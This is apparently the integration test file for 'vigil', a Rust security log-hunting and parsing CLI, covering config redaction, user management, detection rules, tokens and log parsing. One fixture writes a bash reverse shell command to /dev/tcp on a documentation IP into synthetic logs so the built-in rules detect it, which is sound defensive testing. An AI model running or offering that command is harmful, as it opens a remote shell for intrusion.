//! The `vigil` binary end to end: configuration checks, user management, version.

#[path = "cli/hunt.rs"]
mod hunt;
#[path = "cli/rules.rs"]
mod rules;

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

struct Dir(PathBuf);
impl Drop for Dir {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

fn tmp() -> Dir {
    let d = std::env::temp_dir().join(format!("vigil-cli-{}", uuid::Uuid::new_v4().simple()));
    std::fs::create_dir_all(&d).unwrap();
    Dir(d)
}

/// Runs vigil in `dir` with a clean environment (no VIGIL_*/legacy variables leak in).
fn vigil(dir: &Path, args: &[&str], env: &[(&str, &str)]) -> Output {
    let mut c = Command::new(env!("CARGO_BIN_EXE_vigil"));
    c.current_dir(dir)
        .args(args)
        .env_clear()
        .env("PATH", std::env::var("PATH").unwrap_or_default());
    for (k, v) in env {
        c.env(k, v);
    }
    c.output().expect("run vigil")
}

fn text(o: &Output) -> (String, String) {
    (
        String::from_utf8_lossy(&o.stdout).into_owned(),
        String::from_utf8_lossy(&o.stderr).into_owned(),
    )
}

#[test]
fn version_prints_the_package_version() {
    let d = tmp();
    let o = vigil(&d.0, &["version"], &[]);
    assert!(o.status.success());
    assert_eq!(
        text(&o).0.trim(),
        format!("vigil {}", env!("CARGO_PKG_VERSION"))
    );
}

#[test]
fn config_check_redacts_secrets_and_names_unknown_keys() {
    let d = tmp();
    let o = vigil(
        &d.0,
        &["config", "check"],
        &[
            ("THEHIVE_API_KEY", "hive-secret-value"),
            ("VIGIL_DATABASE__URL", "postgres://u:hunter2@db/vigil"),
            ("API_PORT", "9100"),
        ],
    );
    let (out, err) = text(&o);
    assert!(o.status.success(), "{err}");
    assert!(out.contains("port = 9100"), "{out}");
    assert!(out.contains("postgres://u:***@db/vigil"), "{out}");
    assert!(
        !out.contains("hive-secret-value") && !out.contains("hunter2"),
        "{out}"
    );

    std::fs::write(d.0.join("vigil.toml"), "[server]\nprot = 1\n").unwrap();
    let o = vigil(&d.0, &["config", "check"], &[]);
    assert!(!o.status.success());
    let err = text(&o).1;
    assert!(err.contains("vigil.toml") && err.contains("prot"), "{err}");

    std::fs::remove_file(d.0.join("vigil.toml")).unwrap();
    let o = vigil(&d.0, &["config", "check"], &[("VIGIL_SERVER__PROT", "1")]);
    assert!(!o.status.success());
    assert!(text(&o).1.contains("VIGIL_SERVER__PROT"));
}

#[test]
fn user_lifecycle_from_the_command_line() {
    let d = tmp();
    let pw = [("VIGIL_USER_PASSWORD", "a long enough passphrase")];
    let o = vigil(
        &d.0,
        &[
            "user", "create", "alice", "--role", "viewer", "--org", "acme",
        ],
        &pw,
    );
    let (out, err) = text(&o);
    assert!(o.status.success(), "{err}");
    assert!(
        out.contains("created user 'alice' (role viewer, org 'acme'"),
        "{out}"
    );
    assert!(
        !out.contains("password (shown once)"),
        "a given password must not be printed"
    );

    // Generated password: printed once.
    let o = vigil(&d.0, &["user", "create", "bob"], &[]);
    assert!(text(&o).0.contains("password (shown once): "));

    let o = vigil(&d.0, &["user", "create", "bob"], &pw);
    assert!(!o.status.success());
    assert!(text(&o).1.contains("username 'bob' is taken"));

    let o = vigil(&d.0, &["user", "create", "x y"], &pw);
    assert!(!o.status.success() && text(&o).1.contains("username"));
    let o = vigil(
        &d.0,
        &["user", "create", "weak"],
        &[("VIGIL_USER_PASSWORD", "short")],
    );
    assert!(!o.status.success() && text(&o).1.contains("VIGIL_USER_PASSWORD"));

    assert!(
        vigil(&d.0, &["user", "set-role", "alice", "admin"], &[])
            .status
            .success()
    );
    let o = vigil(&d.0, &["user", "set-role", "alice", "boss"], &[]);
    assert!(!o.status.success() && text(&o).1.contains("boss"));
    let o = vigil(&d.0, &["user", "set-role", "nobody", "admin"], &[]);
    assert!(!o.status.success() && text(&o).1.contains("no user named 'nobody'"));
    let o = vigil(&d.0, &["user", "reset-password", "alice"], &[]);
    assert!(text(&o).0.contains("sessions have ended"));

    let o = vigil(&d.0, &["user", "list"], &[]);
    let out = text(&o).0;
    let rows: Vec<Vec<&str>> = out
        .lines()
        .skip(1)
        .map(|l| l.split_whitespace().collect())
        .collect();
    assert_eq!(rows.len(), 2, "{out}");
    assert_eq!(&rows[0][..4], ["alice", "admin", "acme", "active"]);
    assert_eq!(&rows[1][..4], ["bob", "analyst", "default", "active"]);

    assert!(vigil(&d.0, &["migrate"], &[]).status.success());
    assert!(d.0.join("vigil-data/vigil.db").exists());
}

#[test]
fn hunt_prints_a_table_and_json_lines_and_skips_bad_input() {
    let d = tmp();
    let rules = d.0.join("rules");
    let logs = d.0.join("logs");
    std::fs::create_dir_all(&rules).unwrap();
    std::fs::create_dir_all(&logs).unwrap();
    std::fs::write(
        rules.join("whoami.yml"),
        "title: Whoami Run\nid: 0b4a7c1e-0000-4000-8000-000000000001\nlevel: high\n\
         logsource: {product: windows, category: process_creation}\n\
         detection:\n  sel:\n    Image|endswith: '\\whoami.exe'\n  condition: sel\n",
    )
    .unwrap();
    std::fs::write(
        rules.join("ssh.yml"),
        "title: SSH Failure\nid: 0b4a7c1e-0000-4000-8000-000000000002\nlevel: low\n\
         logsource: {product: linux, service: sshd}\n\
         detection:\n  kw: ['Failed password']\n  condition: kw\n",
    )
    .unwrap();
    std::fs::write(rules.join("broken.yml"), "title: [").unwrap();
    let event = |time: &str, image: &str| {
        serde_json::json!({"Event": {
            "System": {"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational",
                       "Computer": "ws1", "TimeCreated": {"#attributes": {"SystemTime": time}}},
            "EventData": {"Image": image, "CommandLine": format!("{image} /all")}
        }})
    };
    std::fs::write(
        logs.join("b.json"),
        serde_json::to_string(&vec![
            event("2024-05-02T10:00:00Z", "C:\\Windows\\System32\\whoami.exe"),
            event("2024-05-02T11:00:00Z", "C:\\Windows\\notepad.exe"),
        ])
        .unwrap(),
    )
    .unwrap();
    std::fs::write(
        logs.join("a.jsonl"),
        format!(
            "{}\nnot json\n",
            event("2024-05-01T09:00:00Z", "C:\\Tools\\WHOAMI.EXE")
        ),
    )
    .unwrap();

    let args = ["hunt", "--rules", "rules", "--pipeline", "windows", "logs"];
    let o = vigil(&d.0, &args, &[]);
    let (out, err) = text(&o);
    assert_eq!(o.status.code(), Some(1), "findings: exit 1; {err}");
    let rows: Vec<&str> = out.lines().filter(|l| l.starts_with("2024-")).collect();
    assert_eq!(rows.len(), 2, "{out}");
    assert!(rows[0].starts_with("2024-05-01T09:00:00Z"), "{out}");
    assert!(rows[0].contains("Whoami Run"), "{out}");
    assert!(rows[0].contains("a.jsonl:1"), "{out}");
    assert!(rows[0].contains("high"), "{out}");
    assert!(
        rows[0].contains("0b4a7c1e-0000-4000-8000-000000000001"),
        "{out}"
    );
    assert!(rows[0].contains("Computer=ws1"), "{out}");
    assert!(
        rows[0].contains("CommandLine=C:\\Tools\\WHOAMI.EXE /all"),
        "{out}"
    );
    assert!(rows[1].contains("b.json:1"), "{out}");
    assert!(out.contains("files: 2"), "{out}");
    assert!(out.contains("events: 3, matches: 2"), "{out}");
    assert!(out.contains("by level: high 2"), "{out}");
    assert!(out.contains("2 loaded, 1 rejected"), "{out}");
    assert!(err.contains("a.jsonl:2"), "{err}");
    assert!(
        err.contains("broken.yml") || err.contains("rules rejected"),
        "{err}"
    );

    // JSON lines, one per match, with the whole event; nothing but them on stdout.
    let o = vigil(&d.0, &[&args[..], &["--json"]].concat(), &[]);
    let (out, err) = text(&o);
    assert_eq!(o.status.code(), Some(1), "findings: exit 1; {err}");
    let hits: Vec<serde_json::Value> = out
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(hits.len(), 2, "{out}");
    assert_eq!(hits[0]["rule"]["title"], "Whoami Run");
    assert_eq!(hits[0]["level"], "high");
    assert_eq!(hits[0]["record"], 1);
    assert_eq!(
        hits[1]["event"]["Event"]["EventData"]["Image"],
        "C:\\Windows\\System32\\whoami.exe"
    );
    assert!(err.contains("matches: 2"), "{err}");

    // Text lines with keyword rules, and the level filter.
    std::fs::write(
        logs.join("auth.log"),
        "May  1 09:00:00 web1 sshd[42]: Failed password for root from 10.0.0.5\n",
    )
    .unwrap();
    let o = vigil(
        &d.0,
        &["hunt", "-r", "rules", "--json", "logs/auth.log"],
        &[],
    );
    let (out, err) = text(&o);
    assert_eq!(o.status.code(), Some(1), "findings: exit 1; {err}");
    assert!(out.contains("SSH Failure"), "{out}");
    let o = vigil(
        &d.0,
        &["hunt", "-r", "rules", "--min-level", "medium", "logs"],
        &[],
    );
    let (out, err) = text(&o);
    assert_eq!(o.status.code(), Some(1), "findings: exit 1; {err}");
    assert!(
        !out.contains("SSH Failure") && out.contains("matches: 2"),
        "{out}"
    );

    // Usage errors: no rules, no inputs.
    let o = vigil(&d.0, &["hunt", "-r", "logs", "logs"], &[]);
    assert_eq!(o.status.code(), Some(2));
    assert!(text(&o).1.contains("no rules loaded"), "{}", text(&o).1);
    let o = vigil(&d.0, &["hunt", "-r", "rules", "nothing/*.evtx"], &[]);
    assert_eq!(o.status.code(), Some(2));
    assert!(text(&o).1.contains("no input files"), "{}", text(&o).1);
}

#[test]
fn hunt_defaults_to_the_built_in_rule_pack() {
    let d = tmp();
    let logs = d.0.join("events.jsonl");
    let base = r#""event.category":"process","event.type":"start","host.os.type":"linux","process.executable":"/usr/bin/bash""#;
    std::fs::write(
        &logs,
        format!(
            "{{{base},\"process.command_line\":\"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\"}}\n\
             {{{base},\"process.command_line\":\"ls -l /tmp\"}}\n"
        ),
    )
    .unwrap();
    let o = vigil(&d.0, &["hunt", "--json", logs.to_str().unwrap()], &[]);
    let (out, err) = text(&o);
    assert_eq!(o.status.code(), Some(1), "findings: exit 1; {err}");
    let hits: Vec<serde_json::Value> = out
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(hits.len(), 1, "{out}");
    assert!(
        out.contains("afeee667-1cd9-4912-893b-16bfbae9b8d5"),
        "{out}"
    );
}

#[test]
fn agent_tokens_and_api_keys_are_printed_once_and_listed_without_secrets() {
    let d = tmp();
    // `user create` makes the default organization.
    let o = vigil(
        &d.0,
        &["user", "create", "root-admin", "--role", "admin"],
        &[],
    );
    assert!(o.status.success(), "{:?}", text(&o));
    let o = vigil(
        &d.0,
        &["agent-token", "create", "--description", "rack 4"],
        &[],
    );
    let (out, err) = text(&o);
    assert!(o.status.success(), "{err}");
    let token = out
        .lines()
        .find(|l| l.starts_with("vge_"))
        .expect("token line")
        .to_owned();
    let o = vigil(&d.0, &["agent-token", "list"], &[]);
    let (out, _) = text(&o);
    assert!(out.contains("rack 4") && out.contains("unused") && !out.contains(&token));
    let o = vigil(
        &d.0,
        &["agent-token", "create", "--expires-in-hours", "0"],
        &[],
    );
    assert!(!o.status.success());
    assert!(text(&o).1.contains("expires_in_hours"));

    let o = vigil(&d.0, &["api-key", "create", "promtail"], &[]);
    let (out, err) = text(&o);
    assert!(o.status.success(), "{err}");
    let key = out
        .lines()
        .find(|l| l.starts_with("vgk_"))
        .expect("key line")
        .to_owned();
    let o = vigil(&d.0, &["api-key", "list"], &[]);
    let (out, _) = text(&o);
    assert!(out.contains("promtail") && out.contains("ingest") && !out.contains(&key));
    let o = vigil(&d.0, &["api-key", "create", "x", "--scopes", "root"], &[]);
    assert!(!o.status.success());
    let o = vigil(&d.0, &["api-key", "create", "x", "--org", "nope"], &[]);
    assert!(text(&o).1.contains("no organization named 'nope'"));
}

#[test]
fn parse_prints_one_event_per_line_and_reports_bad_lines() {
    let d = tmp();
    let log = d.0.join("auth.log");
    std::fs::write(
        &log,
        "Nov 23 10:00:01 bastion-1 sshd[812]: Failed password for root from 203.0.113.9 port 52144 ssh2\n\
         \n\
         Nov 23 10:00:02 bastion-1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id\n",
    )
    .unwrap();
    let o = vigil(&d.0, &["parse", "auth.log"], &[]);
    let (out, err) = text(&o);
    assert!(o.status.success(), "{err}");
    let events: Vec<serde_json::Value> = out
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(events.len(), 2, "{out}");
    assert_eq!(events[0]["event"]["dataset"], "auth");
    assert_eq!(events[0]["source"]["ip"], "203.0.113.9");
    assert_eq!(events[0]["log"]["file"]["path"], "auth.log");
    assert_eq!(events[1]["user"]["effective"]["name"], "root");

    // A forced format names the lines that are not in it, and still exits 0.
    let access = d.0.join("access.log");
    std::fs::write(
        &access,
        "203.0.113.9 - - [23/Nov/2026:10:00:00 +0000] \"GET /a?b=c HTTP/1.1\" 200 5 \"-\" \"curl/8.0\"\n\
         this is not an access log line\n",
    )
    .unwrap();
    let o = vigil(&d.0, &["parse", "--format", "nginx", "access.log"], &[]);
    let (out, err) = text(&o);
    assert!(o.status.success(), "{err}");
    assert_eq!(out.lines().count(), 1, "{out}");
    let event: serde_json::Value = serde_json::from_str(out.lines().next().unwrap()).unwrap();
    assert_eq!(event["url"]["query"], "b=c");
    assert!(
        err.contains("access.log: line 2: not a nginx access log line"),
        "{err}"
    );

    let o = vigil(&d.0, &["parse", "--format", "csv", "access.log"], &[]);
    assert!(!o.status.success());
    assert!(text(&o).1.contains("unknown format \"csv\""));
    let o = vigil(&d.0, &["parse", "missing.log"], &[]);
    assert!(!o.status.success());
    assert!(text(&o).1.contains("cannot open missing.log"));
}

#[test]
fn parse_reads_standard_input() {
    use std::io::Write;
    let d = tmp();
    let mut child = Command::new(env!("CARGO_BIN_EXE_vigil"))
        .current_dir(&d.0)
        .args(["parse", "--host", "collector", "-"])
        .env_clear()
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(b"type=EXECVE msg=audit(1700000000.123:456): argc=2 a0=\"id\" a1=2D61\n{\"msg\":\"json\"}\n")
        .unwrap();
    let o = child.wait_with_output().unwrap();
    let (out, err) = text(&o);
    assert!(o.status.success(), "{err}");
    let events: Vec<serde_json::Value> = out
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(events[0]["event"]["dataset"], "auditd");
    assert_eq!(events[0]["a1"], "-a");
    assert_eq!(events[0]["host"]["name"], "collector");
    assert_eq!(events[1]["msg"], "json");
}
